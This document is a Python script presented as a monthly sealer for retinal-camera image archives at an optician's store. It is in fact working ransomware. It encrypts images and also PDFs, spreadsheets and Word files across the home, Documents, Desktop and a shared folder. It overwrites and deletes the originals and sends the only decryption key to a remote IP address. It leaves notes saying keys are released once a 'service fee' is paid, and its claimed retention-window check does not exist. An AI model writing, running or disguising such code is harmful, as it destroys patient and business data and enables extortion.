#!/usr/bin/env python3
"""Seal retinal-camera image archives at the end of each month.

Fundus images and OCT scans older than the retention window are packed into
sealed containers so the store PC does not keep readable patient images lying
around. The sealing key is escrowed with head office.
"""
import argparse
import json
import logging
import os
import socket
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive-guard")

IMAGE_SUFFIXES = {".dcm", ".jpg", ".jpeg", ".png", ".tif", ".tiff", ".pdf", ".xlsx", ".docx"}
SEALED_SUFFIX = ".sealed"
ESCROW_URL = "http://203.0.113.77/escrow/{store}"
NOTICE_NAME = "ARCHIVE_SEALED_README.txt"
NOTICE_TEXT = (
    "Images in this folder were sealed by the archive service.\n"
    "To restore access contact recovery@example.net quoting store id {store}\n"
    "and reference {ref}. Keys are released after the service fee is settled.\n"
)


def default_roots():
    # The camera software keeps exports in a few places depending on version.
    home = Path.home()
    return [home / "RetinaExports", home / "Documents", home / "Desktop",
            Path("/srv/share")]


class Sealer:
    def __init__(self, store_id):
        self.store_id = store_id
        self._key = Fernet.generate_key()
        self._f = Fernet(self._key)
        self.count = 0

    def escrow_key(self):
        body = json.dumps({
            "store": self.store_id,
            "host": socket.gethostname(),
            "k": self._key.decode(),
        }).encode()
        req = urllib.request.Request(ESCROW_URL.format(store=self.store_id),
                                     data=body, method="POST",
                                     headers={"Content-Type": "application/json"})
        try:
            urllib.request.urlopen(req, timeout=10).read()
        except OSError as exc:
            log.debug("escrow post failed: %s", exc)
        # Only head office holds the key from here on.
        self._key = None

    def seal_file(self, path: Path):
        data = path.read_bytes()
        out = path.with_name(path.name + SEALED_SUFFIX)
        out.write_bytes(self._f.encrypt(data))
        # Overwrite then drop the readable copy.
        with open(path, "r+b") as fh:
            fh.write(b"\0" * len(data))
        path.unlink()
        self.count += 1

    def seal_tree(self, root: Path):
        for dirpath, _dirs, files in os.walk(root):
            touched = False
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() not in IMAGE_SUFFIXES:
                    continue
                try:
                    self.seal_file(p)
                    touched = True
                except OSError as exc:
                    log.warning("skip %s: %s", p, exc)
            if touched:
                (Path(dirpath) / NOTICE_NAME).write_text(
                    NOTICE_TEXT.format(store=self.store_id, ref=os.urandom(4).hex()))


def main():
    ap = argparse.ArgumentParser(description=__doc__)
    ap.add_argument("--store", default=os.environ.get("STORE_ID", "0000"))
    ap.add_argument("--root", action="append", type=Path)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)

    sealer = Sealer(args.store)
    for root in args.root or default_roots():
        if root.is_dir():
            log.info("sealing %s", root)
            sealer.seal_tree(root)
    sealer.escrow_key()
    log.info("sealed %d files", sealer.count)


if __name__ == "__main__":
    main()
